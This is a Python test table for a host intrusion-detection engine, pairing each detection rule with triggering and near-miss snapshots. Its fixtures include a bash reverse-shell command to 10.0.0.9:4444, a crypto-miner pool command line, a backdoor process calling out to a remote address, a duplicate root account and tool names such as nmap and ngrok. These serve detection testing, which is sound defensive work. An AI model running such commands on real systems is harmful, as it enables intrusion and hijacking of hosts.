"""The engine's test table: each builtin's violating and near-miss snapshot sequences
(CASES), and running snapshots through the engine with the builtins or with the packs."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from typing import Any

from kefal_lite.detect import packs
from kefal_lite.detect.builtins import BUILTINS
from kefal_lite.detect.engine import Catalog, evaluate
from kefal_lite.detect.model import Finding
from kefal_lite.detect.state import HostState
from kefal_lite.snapshot import Snapshot
from tests.builders import BASE_USERS, proc, snap

CATALOG = Catalog(BUILTINS)


def run(snapshots: list[Snapshot], skew: timedelta = timedelta(seconds=2)) -> list[Finding]:
    """Evaluate a sequence; return the findings of the last snapshot."""
    state = HostState()
    findings: list[Finding] = []
    for s in snapshots:
        findings, state = evaluate(s, state, CATALOG, s.timestamp + skew)
    return findings


def learned(n: int = 3, **fields: object) -> list[Snapshot]:
    """n learning snapshots of the base host (with `fields`)."""
    return [snap(i, **fields) for i in range(n)]  # type: ignore[arg-type]


def persisting(i: int, **fields: object) -> list[Snapshot]:
    """A change shown in two consecutive snapshots from index i: novelty must persist."""
    return [snap(i, **fields), snap(i + 1, **fields)]  # type: ignore[arg-type]


def _users(*extra: dict[str, object]) -> list[dict[str, object]]:
    return [*BASE_USERS, *extra]


KEY_ROOT = {"user": "root", "fingerprint": "SHA256:rootkey", "comment": "evil"}
KEY_ALICE = {"user": "alice", "fingerprint": "SHA256:aaaa", "comment": "a@l"}
KEY_ALICE2 = {"user": "alice", "fingerprint": "SHA256:bbbb", "comment": "new"}
OUT = {"protocol": "tcp", "local_port": 40000, "remote_address": "1.2.3.4", "remote_port": 443,
       "process": "curl", "state": "ESTABLISHED"}  # fmt: skip
OUT_NEW = {**OUT, "remote_port": 4444, "process": "python3"}
BACKDOOR_OUT = {
    **OUT,
    "remote_address": "203.0.113.7",
    "remote_port": 4444,
    "process": "backdoor",
    "pid": 777,
}
INBOUND = {**OUT, "local_port": 80, "remote_port": 51234, "process": "nginx"}

# invariant -> (violating sequence, subject, severity, near-miss sequence)
Case = tuple[Callable[[], list[Snapshot]], str, str, Callable[[], list[Snapshot]]]
CASES: dict[str, Case] = {
    "database_exposed": (
        lambda: [snap(add_ports=[{"port": 5432, "process": "postgres", "address": "0.0.0.0"}])],
        "port:5432/tcp", "critical",
        lambda: [snap(add_ports=[{"port": 5432, "process": "postgres", "address": "127.0.0.1"}])],
    ),
    "control_plane_exposed": (
        lambda: [snap(add_ports=[{"port": 2375, "process": "dockerd", "address": "::"}])],
        "port:2375/tcp", "critical",
        lambda: [snap(add_ports=[{"port": 2375, "process": "dockerd", "address": "::1"}])],
    ),
    "cleartext_remote_access": (
        lambda: [snap(add_ports=[{"port": 23, "process": "telnetd", "address": "127.0.0.1"}])],
        "port:23/tcp", "high",
        lambda: [snap(add_ports=[{"port": 2323, "process": "telnetd", "address": "0.0.0.0"}])],
    ),
    "remote_desktop_exposed": (
        lambda: [snap(add_ports=[{"port": 5901, "process": "Xvnc", "address": "192.168.1.20"}])],
        "port:5901/tcp", "high",
        lambda: [snap(add_ports=[{"port": 5901, "process": "Xvnc", "address": "127.0.0.1"}])],
    ),
    "ssh_port_masquerade": (
        lambda: [snap(listening_ports=[{"port": 22, "process": "nc", "address": "0.0.0.0"}])],
        "port:22/tcp", "high",
        lambda: [snap(listening_ports=[{"port": 22, "process": "dropbear", "address": "0.0.0.0"}])],
    ),
    "database_running_as_root": (
        lambda: [snap(add_processes=[proc("postgres", "root")])], "process:postgres", "high",
        lambda: [snap(add_processes=[proc("postgres", "postgres")])],
    ),
    "root_process_in_writable_path": (
        lambda: [snap(add_processes=[proc("updater", "root", exe="/home/alice/.cache/updater")])],
        "process:updater", "critical",
        # /tmp only in an argument, the binary itself is a system one
        lambda: [snap(add_processes=[proc("python3", "root", exe="/usr/bin/python3.11",
                                          cmdline="python3 /tmp/build.py")])],
    ),
    "uid0_duplicate": (
        lambda: [snap(users=_users({"name": "toor", "uid": 0, "groups": [], "shell": "/bin/sh"}))],
        "user:toor", "critical",
        lambda: [snap(users=_users({"name": "toor", "uid": 1001, "groups": [], "shell": "/bin/sh"}))],
    ),
    "new_admin_account": (
        lambda: [*learned(), *persisting(3, users=_users({"name": "bob", "uid": 1001, "groups": ["wheel"]}))],
        "user:bob", "high",
        lambda: [snap(i, users=_users({"name": "bob", "uid": 1001, "groups": ["wheel"]}))
                 for i in range(4)],
    ),
    "process_in_suspicious_path": (
        lambda: [snap(add_processes=[proc(".x", "www-data", exe="/dev/shm/.x")])],
        "process:.x", "high",
        lambda: [snap(add_processes=[proc("python3", "www-data", exe="/usr/bin/python3",
                                          cmdline="python3 /tmp/job.py")])],
    ),
    "crypto_miner": (
        lambda: [snap(add_processes=[proc("kworkerds", "www-data", exe="/usr/bin/kworkerds",
                                          cmdline="./kworkerds -o stratum+tcp://pool.example:3333")])],
        "process:kworkerds", "critical",
        lambda: [snap(add_processes=[proc("xmrig-docs", "alice", cmdline="less xmrig.md")])],
    ),
    "reverse_shell": (
        lambda: [snap(add_processes=[proc("bash", "www-data", cmdline="bash -c bash -i >& /dev/tcp/10.0.0.9/4444 0>&1")])],
        "process:bash", "critical",
        lambda: [snap(add_processes=[proc("nc", "alice", cmdline="nc -z db.lan 5432")])],
    ),
    "shell_listening": (
        lambda: [snap(add_ports=[{"port": 4444, "process": "bash", "address": "0.0.0.0"}])],
        "port:4444/tcp", "critical",
        lambda: [snap(add_processes=[proc("bash", "alice")])],
    ),
    "offensive_tool_running": (
        lambda: [snap(add_processes=[proc("NMAP", "alice")])], "process:nmap", "high",
        lambda: [snap(add_processes=[proc("nmapper", "alice")])],
    ),
    "tunneling_tool_running": (
        lambda: [snap(add_processes=[proc("ngrok.exe", "alice")])], "process:ngrok", "medium",
        lambda: [snap(add_processes=[proc("ngrokd-docs", "alice")])],
    ),
    "deleted_binary_running": (
        lambda: [snap(add_processes=[proc("app", "www-data", exe="/srv/app/bin/app (deleted)")])],
        "process:app", "high",
        lambda: [snap(add_processes=[proc("app", "www-data", exe="/srv/deleted/app")])],
    ),
    "kernel_thread_masquerade": (
        lambda: [snap(add_processes=[proc("[kworker/0:2]", "root", exe="/var/tmp/.k")])],
        "process:[kworker/0:2]", "high",
        lambda: [snap(add_processes=[proc("[kworker/0:2]", "root", exe=None, ppid=2)])],
    ),
    "root_login": (
        lambda: [snap(logged_in_users=["alice", "root"])], "user:root", "medium",
        lambda: [snap(logged_in_users=["alice"])],
    ),
    "new_login_user": (
        lambda: [*learned(), *persisting(3, logged_in_users=["alice", "mallory"])], "user:mallory", "high",
        lambda: [snap(i, logged_in_users=["alice", "mallory"]) for i in range(4)],
    ),
    "new_ssh_authorized_key": (
        lambda: [*learned(), *persisting(3, ssh_authorized_keys=[KEY_ALICE, KEY_ROOT])],
        "key:root:SHA256:rootkey", "critical",
        lambda: [snap(i, ssh_authorized_keys=[KEY_ALICE, KEY_ROOT]) for i in range(4)],
    ),
    "system_account_login": (
        lambda: [snap(logged_in_users=["www-data"])], "user:www-data", "high",
        lambda: [snap(logged_in_users=["root", "alice"])],
    ),
    "new_listening_port": (
        lambda: [*learned(), *persisting(3, add_ports=[{"port": 8081, "process": "nginx", "address": "0.0.0.0"}])],
        "port:8081/tcp", "medium",
        # loopback is not exposure, and an ephemeral port is judged by its owner, not its number
        lambda: [*learned(), *persisting(3, add_ports=[{"port": 8081, "process": "nginx", "address": "127.0.0.1"},
                                                       {"port": 42877, "process": "nginx", "address": "0.0.0.0"}])],
    ),
    "new_listening_process": (
        # a known port (80) under a new owner: with a new port too, both are one incident
        lambda: [*learned(), *persisting(3, add_ports=[{"port": 80, "process": "socat", "address": "0.0.0.0"}])],
        "process:socat", "medium",
        # a loopback-only listener, even a network tool, is a notice at most
        lambda: [*learned(), *persisting(3, add_ports=[{"port": 9999, "process": "socat", "address": "127.0.0.1"}])],
    ),
    "new_root_process": (
        lambda: [*learned(), *persisting(3, add_processes=[proc("backdoor", "root", pid=777)],
                                         connections=[BACKDOOR_OUT])], "process:backdoor", "medium",
        # a renamed kernel thread is not a new program; a new root program alone is a notice
        lambda: [*learned(), *persisting(3, add_processes=[proc("kworker/1:3-mm", "root", exe=None, ppid=2),
                                                           proc("tar", "root", pid=778)])],
    ),
    "novel_outbound_connection": (
        lambda: [*learned(connections=[OUT]), *persisting(3, connections=[OUT, OUT_NEW])],
        "peer:python3:4444", "medium",
        # inbound, and loopback (not egress), and curl on a new port (no second signal)
        lambda: [*learned(connections=[OUT]),
                 *persisting(3, connections=[OUT, INBOUND, {**OUT_NEW, "remote_address": "127.0.0.1"},
                                             {**OUT, "remote_port": 8443}])],
    ),
    "snapshot_replay": (
        lambda: [snap(5), snap(2)], "timestamp", "high",
        lambda: [snap(2), snap(5)],
    ),
    "clock_skew": (
        lambda: [snap(0)], "clock", "low",
        lambda: [snap(0)],
    ),
    "host_rebooted": (
        lambda: [snap(0), snap(1, uptime_seconds=90, kernel="6.8.0-50-generic")],
        "boot:2026-11-02T08:59", "low",
        lambda: [snap(0), snap(1)],
    ),
    "security_tool_stopped": (
        lambda: [snap(0, add_processes=[proc("auditd")]), snap(1)], "process:auditd", "high",
        lambda: [snap(0), snap(1), snap(2, add_processes=[proc("auditd")])],
    ),
    "sustained_high_cpu": (
        lambda: [snap(i, add_processes=[proc("python3", "alice", cpu=97.0)]) for i in range(3)],
        "process:python3", "medium",
        lambda: [snap(0, add_processes=[proc("python3", "alice", cpu=97.0)]),
                 snap(1, add_processes=[proc("python3", "alice", cpu=97.0)]),
                 snap(2, add_processes=[proc("python3", "alice", cpu=12.0)])],
    ),
    "process_count_spike": (
        lambda: [*[snap(i, add_processes=[proc(f"w{j}", "alice", pid=1000 + j) for j in range(20)])
                   for i in range(3)],
                 snap(3, add_processes=[proc(f"w{j}", "alice", pid=1000 + j) for j in range(80)])],
        "processes", "medium",
        # baseline of 6 processes is under min_baseline 20: x3 growth is normal here
        lambda: [*learned(), snap(3, add_processes=[proc(f"w{j}", "alice", pid=1000 + j) for j in range(20)])],
    ),
}  # fmt: skip

SKEW = {"clock_skew": (timedelta(minutes=-10), timedelta(minutes=-4))}


def findings_of(invariant_id: str, findings: list[Finding]) -> list[Finding]:
    """The findings of one rule, including those folded into another rule's on the same
    subject (one process, one incident)."""
    out = []
    for f in findings:
        for rule in f.evidence.get("rules", [{"invariant_id": f.invariant_id}]):
            if rule["invariant_id"] == invariant_id:
                out.append(
                    Finding(
                        invariant_id,
                        f.subject,
                        rule.get("severity", f.severity),
                        rule.get("title", f.title),
                        rule.get("evidence", f.evidence),
                    )
                )
    return out


PACKS_CATALOG = Catalog((*BUILTINS, *packs.active()))


def run_packs(snapshots: list[Snapshot]) -> list[Finding]:
    """The findings of the last snapshot, with the builtins and the active packs."""
    state, findings = HostState(), []
    for s in snapshots:
        findings, state = evaluate(s, state, PACKS_CATALOG, s.timestamp + timedelta(seconds=2))
    return findings


def outbound(process: str, pid: int, address: str, port: int) -> dict[str, Any]:
    return {"remote_address": address, "remote_port": port, "local_port": 51000,
            "process": process, "pid": pid, "state": "ESTABLISHED"}  # fmt: skip
